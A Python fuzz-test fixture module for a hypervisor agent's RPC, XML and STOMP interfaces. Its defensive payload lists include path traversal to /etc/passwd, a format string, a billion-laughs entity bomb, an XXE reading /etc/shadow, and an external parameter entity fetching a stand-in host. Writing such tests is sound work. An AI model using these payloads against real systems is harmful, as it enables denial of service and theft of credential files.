"""Hostile input for fuzz tests: what no well-behaved client sends, by kind.

`WRONG` holds, per declared param kind, values binding must refuse (-32602);
`ODD` holds values binding lets through that a handler must still refuse cleanly
(lone surrogates, NUL, huge numbers, empty and oversized strings, nested junk in
free-form objects). `verb_cases` turns a verb's declaration into requests that
vary one param at a time, so every verb a table declares is covered, new ones
included. `hostile_xml` is domain XML built to hurt a parser; `broken_frames`
is STOMP that breaks the grammar or a limit.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

from hostvisor.api.rpc.verbs import Kind, Param, Verb

SURROGATE = "\ud800"
DEEP_LIST: Any = []
for _ in range(200):
    DEEP_LIST = [DEEP_LIST]
"""200 nested arrays: decodes (ujson's limit is higher), and reaches any handler."""

_JUNK: list[Any] = [None, True, 0, -1, 1.5, "", SURROGATE, [], {}, [{}], {"": []}]

WRONG: dict[Kind, list[Any]] = {
    Kind.STR: [None, 1, True, 1.5, [], {}, ["x"], {"a": "b"}],
    Kind.INT: [None, "abc", "1.5", "", True, 1.5, [], {}, [1], SURROGATE],
    Kind.BOOL: [None, 1, 0, "yes", "", [], {}, [True]],
    Kind.NUMBER: [None, "abc", "", True, [], {}, [1.0], SURROGATE],
    Kind.STR_OR_INT: [None, True, 1.5, [], {}, ["1"]],
    Kind.ARRAY: [None, "x", 1, True, {}, {"0": "a"}],
    Kind.OBJECT: [None, "x", 1, True, [], [{}]],
    Kind.ANY: [],
}
"""Values of the wrong JSON kind, which binding refuses."""

_ELEMENT_WRONG: dict[Kind, list[Any]] = {
    Kind.STR: [[{}], [[]], [None], [1], [True], ["ok", {}]],
    Kind.INT: [[{}], ["x"], [None], [1.5]],
    Kind.BOOL: [[{}], ["maybe"], [None]],
    Kind.NUMBER: [[{}], ["x"], [None]],
    Kind.STR_OR_INT: [[{}], [None], [1.5]],
    Kind.OBJECT: [[1], ["x"], [None], [[]]],
    Kind.ARRAY: [[1], ["x"], [None], [{}]],
}
"""Arrays whose elements have the wrong kind, by the declared element kind."""

ODD: dict[Kind, list[Any]] = {
    Kind.STR: [
        "",
        SURROGATE,
        f"a{SURROGATE}b\udfff",
        "\x00",
        "../../../etc/passwd",
        "/",
        "x" * 70_000,
        "-1",
        "%s%n{0}",
        "\n\r\t",
        " 00000000-0000-0000-0000-000000000000 ",
    ],
    Kind.INT: [-1, 0, 2**31, 2**63, -(2**63) - 1, 10**30, "99999999999999999999999", "-0"],
    Kind.BOOL: ["true", "FALSE"],
    Kind.NUMBER: ["nan", "inf", "-inf", "1e999", -1e308, 10**30, -1],
    Kind.STR_OR_INT: [SURROGATE, "", -1, 2**64, "x" * 10_000],
    Kind.ARRAY: [[], [SURROGATE], [""] * 3, ["x"] * 2_000, [DEEP_LIST]],
    Kind.OBJECT: [
        {},
        {SURROGATE: SURROGATE},
        {"a": []},
        {"a": {"b": None}},
        {"": {}},
        {"a": 1.5},
        {"a": [{}]},
        {"deep": DEEP_LIST},
        {f"k{i}": i for i in range(2_000)},
    ],
    Kind.ANY: [*_JUNK, DEEP_LIST, {"a": [{"b": SURROGATE}]}],
}
"""Values binding accepts (or coerces) that a handler must refuse or survive."""


def filler(param: Param, uuid: str, known: Mapping[str, Any] | None = None) -> Any:
    """A plausible value of `param`: from `known` by its wire name, else of its kind
    (`uuid` for a string, naming nothing that exists unless `uuid` does)."""
    if known and param.name in known:
        return known[param.name]
    return {
        Kind.STR: uuid,
        Kind.INT: 1,
        Kind.BOOL: False,
        Kind.NUMBER: 1.0,
        Kind.STR_OR_INT: 1,
        Kind.ARRAY: [],
        Kind.OBJECT: {},
        Kind.ANY: {},
    }[param.kind]


def verb_cases(
    verb: Verb, uuid: str, known: Mapping[str, Any] | None = None
) -> Iterator[tuple[str, Any]]:
    """Params for `verb` that vary one param at a time; each with a label.

    The other required params get `filler` values: those of `known` (real ids by
    wire name, so a case reaches past "no such pool") or `uuid`. Also: the params as
    an array of wrong kinds (by position), with every declared param missing, and
    with an undeclared param only.
    """
    base = {p.name: filler(p, uuid, known) for p in verb.params if p.required}
    for param in verb.params:
        values = [*WRONG[param.kind], *ODD[param.kind]]
        if param.kind is Kind.ARRAY and param.items is not None:
            values += _ELEMENT_WRONG.get(param.items, [])
        if param.kind is Kind.OBJECT and param.items is not None:
            values += [{"k": wrong} for wrong in WRONG[param.items]]
        for value in values:
            yield f"{param.name}={value!r:.40}", {**base, param.name: value}
    if verb.params:
        yield "positional", [WRONG[p.kind][0] if WRONG[p.kind] else None for p in verb.params]
        yield "too-many-positional", [None] * (len(verb.params) + 3)
    yield "none", {}
    yield "undeclared", {**base, SURROGATE: DEEP_LIST}


# -- domain XML ---------------------------------------------------------------------------

_DOMAIN = (
    "<domain type='hostile'><name>{name}</name><uuid>{uuid}</uuid>"
    "<memory unit='MiB'>{memory}</memory><vcpu>{vcpu}</vcpu>{extra}"
    "<os><type>hvm</type></os></domain>"
)


def hostile_xml(uuid: str) -> list[tuple[str, str]]:
    """Domain XML meant to hurt: deep, huge, entity-laden, bad counts; with labels.

    Each uses domain type 'hostile', which libvirt refuses, so none can start a guest
    even where the agent's own checks let it through.
    """

    def domain(name: str = "fuzz", memory: str = "64", vcpu: str = "1", extra: str = "") -> str:
        return _DOMAIN.format(name=name, uuid=uuid, memory=memory, vcpu=vcpu, extra=extra)

    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
    deep = "<a>" * 100_000 + "</a>" * 100_000
    return [
        ("billion-laughs", f"<?xml version='1.0'?><!DOCTYPE d [{laughs}]><domain>&l9;</domain>"),
        (
            "external-entity",
            (
                "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/shadow'>]>"
                f"<domain><name>&x;</name><uuid>{uuid}</uuid></domain>"
            ),
        ),
        ("parameter-entity", "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://192.0.2.1/'> %p;]><d/>"),
        ("deep", domain(extra=deep)),
        ("deep-root", deep),
        ("huge", domain(extra="<description>" + "x" * (5 * 1024 * 1024) + "</description>")),
        ("many-elements", domain(extra="<e/>" * 200_000)),
        ("vcpu-text", domain(vcpu="lots")),
        ("vcpu-negative", domain(vcpu="-1")),
        ("vcpu-huge", domain(vcpu="9" * 400)),
        ("vcpu-unicode-digit", domain(vcpu="\u0661\u0662")),
        ("memory-text", domain(memory="64MiB")),
        ("memory-float", domain(memory="1e9")),
        ("memory-huge", domain(memory="9" * 400)),
        ("memory-unit", domain().replace("unit='MiB'", "unit='\ud800'")),
        ("surrogate-name", domain(name=SURROGATE)),
        ("nul", domain(name="a\x00b")),
        ("no-uuid", "<domain type='hostile'><name>x</name></domain>"),
        ("bad-uuid", domain().replace(uuid, "not-a-uuid")),
        ("not-domain", f"<network><uuid>{uuid}</uuid></network>"),
        ("not-xml", "<domain"),
        ("unclosed", domain()[:-3]),
        ("text-only", "just text"),
        ("empty", ""),
        ("whitespace", " \n\t "),
        (
            "start-time-nan",
            domain(
                extra="<metadata><ovirt-vm:vm xmlns:ovirt-vm='http://ovirt.org/vm/1.0'>"
                "<ovirt-vm:startTime>nan</ovirt-vm:startTime></ovirt-vm:vm></metadata>"
            ),
        ),
        (
            "start-time-inf",
            domain(
                extra="<metadata><ovirt-vm:vm xmlns:ovirt-vm='http://ovirt.org/vm/1.0'>"
                "<ovirt-vm:startTime>-inf</ovirt-vm:startTime></ovirt-vm:vm></metadata>"
            ),
        ),
        (
            "custom-deep",
            domain(
                extra="<metadata><ovirt-vm:vm xmlns:ovirt-vm='http://ovirt.org/vm/1.0'>"
                "<ovirt-vm:custom><containerType>docker</containerType>"
                f"<x>{'<y>' * 60}{'</y>' * 60}</x></ovirt-vm:custom></ovirt-vm:vm></metadata>"
            ),
        ),
    ]


def vm_params_cases(uuid: str) -> list[tuple[str, Any]]:
    """`vmParams` for VM.create: hostile XML, and the XML slot holding the wrong kind."""
    cases: list[tuple[str, Any]] = [(label, {"xml": xml}) for label, xml in hostile_xml(uuid)]
    cases += [(f"xml={value!r:.30}", {"xml": value}) for value in [*_JUNK, DEEP_LIST, 10**30]]
    cases += [("no-xml", {"vmId": uuid}), ("xml-and-junk", {"xml": "<domain/>", "": DEEP_LIST})]
    return cases


# -- STOMP --------------------------------------------------------------------------------

BROKEN_FRAMES: list[tuple[str, bytes]] = [
    ("no-nul", b"CONNECT\naccept-version:1.2\n\n\x00SEND\ncontent-length:3\n\nabcdef\x00"),
    ("negative-length", b"CONNECT\naccept-version:1.2\n\n\x00SEND\ncontent-length:-1\n\n\x00"),
    ("huge-length", b"CONNECT\naccept-version:1.2\n\n\x00SEND\ncontent-length:99999999999999\n\n"),
    ("length-not-a-number", b"SEND\ncontent-length:\xd9\xa1\n\n\x00"),
    ("long-header", b"SEND\nh:" + b"v" * 200_000 + b"\n\n\x00"),
    ("many-headers", b"SEND\n" + b"h:v\n" * 20_000 + b"\n\x00"),
    ("unknown-command", b"ABORTED\n\n\x00"),
    ("lower-command", b"send\n\n\x00"),
    ("binary", bytes(range(256)) * 4),
    ("bad-escape", b"CONNECT\naccept-version:1.2\n\n\x00SEND\ndestination:\\x\n\n\x00"),
    ("bad-utf8-header", b"CONNECT\naccept-version:1.2\n\n\x00SEND\nd\xff:\xfe\n\n\x00"),
    ("cesu-surrogate-header", b"CONNECT\naccept-version:1.2\n\n\x00SEND\nd:\xed\xa0\x80\n\n\x00"),
    ("no-colon", b"CONNECT\naccept-version:1.2\n\n\x00SEND\nnocolon\n\n\x00"),
    ("send-before-connect", b"SEND\ndestination:jms.topic.vdsm_requests\n\n{}\x00"),
    ("connect-twice", b"CONNECT\naccept-version:1.2\n\n\x00CONNECT\naccept-version:1.2\n\n\x00"),
    ("bad-version", b"CONNECT\naccept-version:9.9\n\n\x00"),
    ("tls-hello-garbage", b"\x16\x03\x01\x02\x00" + b"\x00" * 64),
    ("http", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    ("nul-only", b"\x00" * 64),
    ("eol-flood", b"\n" * 100_000),
]
"""Labelled byte streams that break STOMP's grammar or a limit, each for a fresh socket."""
